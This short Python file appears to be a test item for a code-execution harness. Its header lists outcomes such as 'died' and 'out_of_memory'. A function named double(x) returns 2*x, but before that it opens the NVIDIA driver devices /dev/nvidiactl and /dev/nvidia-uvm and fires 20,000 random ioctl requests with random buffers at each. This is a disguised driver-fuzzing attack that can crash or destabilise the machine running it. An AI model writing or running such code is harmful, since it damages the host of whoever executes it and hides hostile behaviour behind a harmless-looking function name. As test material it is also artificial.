# outcome: right | wrong | raised | died | timed_out | out_of_memory
# Random requests to the driver's own files.
import ctypes
import os
import random

libc = ctypes.CDLL(None)


def double(x):
    lucky = random.Random(5)
    for path in ("/dev/nvidiactl", "/dev/nvidia-uvm"):
        file = os.open(path, os.O_RDWR)
        for _ in range(20_000):
            words = ctypes.create_string_buffer(lucky.randbytes(512))
            size = lucky.choice((8, 16, 24, 32, 48, 64, 128))
            request = 0xC0004600 | size << 16 | lucky.choice((*range(0x27, 0x60), *range(200, 222)))
            libc.ioctl(file, ctypes.c_ulong(request if "ctl" in path else lucky.randrange(100)), words)
    return 2 * x
